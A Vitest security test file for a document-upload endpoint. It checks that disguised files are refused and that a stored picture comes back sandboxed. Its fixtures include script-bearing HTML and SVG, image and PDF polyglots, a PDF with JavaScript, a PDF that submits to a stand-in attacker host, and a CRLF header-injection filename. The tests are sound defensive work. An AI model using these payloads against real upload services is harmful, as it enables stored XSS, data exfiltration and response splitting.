import { beforeAll, describe, expect, inject, test } from "vitest";
import { Visitor } from "../support/visitor.ts";

// What a person or an agent deposits comes back to the next agent as a document, and as nothing else.

const { url, sessions } = inject("platform");
const camille = new Visitor(url, sessions.camille);
const cookie = (sessions.camille ?? []).map(({ name, value }) => `${name}=${value}`).join("; ");

/** One transparent pixel. */
const PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);
const pdfWith = (objects: string) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n3 0 obj << /Type /Page >> endobj\n${objects}\nxref\n0 0\ntrailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n`,
  );
const html = Buffer.from("<!doctype html><script>alert(document.domain)</script>");
const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

let file = "";
beforeAll(async () => {
  const queue = await camille.get("/caen/agents");
  file = /\/caen\/agents\/dossiers\/[0-9a-f-]{36}/.exec(queue.body)?.[0] ?? "";
  expect(file).not.toBe("");
});

/** Scanned at the desk, under a name and a type that the sender chooses. */
async function deposit(content: Buffer, name: string, type: string) {
  const page = (await camille.get(file)).body;
  const [, token = ""] =
    /name="_csrf" value="([^"]+)"/.exec(page.slice(page.indexOf(`${file}/pieces`))) ?? [];
  const [, version = ""] = /name="version" value="(\d+)"/.exec(page) ?? [];
  const body = new FormData();
  for (const [field, value] of Object.entries({ _csrf: token, version, scan_kind: "identity_card" })) {
    body.set(field, value);
  }
  body.set("scan_files", new Blob([new Uint8Array(content)], { type }), name);
  const headers = { origin: url, cookie, accept: "text/html" };
  return fetch(`${url}${file}/pieces`, { method: "POST", body, headers, redirect: "manual" });
}

async function documents(): Promise<ReadonlySet<string>> {
  const { body } = await camille.get(file);
  // One is shown; a file that has several names the others by a link.
  const named = body.matchAll(/(?:\/caen\/agents\/documents\/|\?piece=)([0-9a-f-]{36})/g);
  return new Set([...named].map(([, id]) => `/caen/agents/documents/${id}`));
}

describe("a file that is something else", () => {
  test.each([
    ["a web page said to be a picture", html, "carte.png", "image/png"],
    ["a drawing with a script", svg, "carte.svg", "image/svg+xml"],
    ["a picture with a web page behind", Buffer.concat([PNG, html]), "carte.png", "image/png"],
    ["a web page with a PDF behind", Buffer.concat([html, pdfWith("")]), "carte.pdf", "application/pdf"],
    [
      "a PDF that runs",
      pdfWith("4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"),
      "a.pdf",
      "text/html",
    ],
    [
      "a PDF that sends",
      pdfWith("4 0 obj << /S /SubmitForm /F (https://evil.example) >> endobj"),
      "a.pdf",
      "",
    ],
  ])("is refused in words, and kept nowhere: %s", async (_, content, name, type) => {
    const before = await documents();
    const answer = await deposit(content, name, type);
    expect(answer.status).toBe(422);
    expect(await answer.text()).not.toContain("<script>alert");
    expect(await documents()).toEqual(before);
  });
});

test("a picture comes back as its bytes say, sandboxed, under a name that ends no header", async () => {
  const before = await documents();
  const unique = Buffer.concat([PNG, Buffer.from("trailing bytes are dropped")]);
  const sent = await deposit(unique, 'a";\r\nSet-Cookie: vole=1; x="<svg onload=alert(1)>.html', "text/html");
  expect(sent.status).toBe(303);
  const [document = ""] = [...(await documents())].filter((one) => !before.has(one));
  const { status, headers, body } = await camille.get(document);
  expect(status).toBe(200);
  expect(headers.get("content-type")).toBe("image/png");
  expect(headers.get("x-content-type-options")).toBe("nosniff");
  expect(headers.get("content-disposition")).toMatch(/^inline; filename\*=UTF-8''[\w.%~-]+\.png$/);
  expect(headers.get("set-cookie") ?? "").not.toContain("vole");
  expect(headers.get("cache-control")).toBe("private, no-store");
  const policy = headers.get("content-security-policy") ?? "";
  for (const rule of ["default-src 'none'", "frame-ancestors 'self'", "form-action 'none'", "sandbox"]) {
    expect(policy).toContain(rule);
  }
  expect(policy).not.toMatch(/script-src|sandbox allow/);
  expect(body).not.toContain("trailing");
});
